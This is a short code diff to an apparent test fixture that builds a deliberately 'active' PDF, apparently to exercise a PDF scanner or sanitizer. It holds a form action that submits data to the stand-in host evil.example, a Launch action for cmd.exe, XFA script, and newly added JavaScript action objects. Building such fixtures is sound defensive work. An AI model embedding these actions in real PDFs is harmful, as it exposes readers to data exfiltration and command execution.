@@ -74,6 +74,8 @@ export const activePdf: Made = () =>
     30: '<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(send)/Rect[50 0 59 9]/A<</S/SubmitForm/F(https://evil.example)>>/AA<</U<</S/JavaScript/JS(up)>>>>>>',
     31: rawStream('<template><event><script>xfa.host.messageBox("a")</script></event></template>'),
     32: rawStream('streamed script'),
+    33: rawStream('no action', '/S/JavaScript/JS(app.alert(2))'),
+    34: '<</Type/Annot/Subtype/Link/Rect[70 0 79 9]/A 33 0 R>>',
     40: '<</Type/Outlines/First 41 0 R/Last 41 0 R/Count 1>>',
     41: '<</Title(Run)/Parent 40 0 R/A<</S/Launch/F(cmd.exe)>>>>',
   })
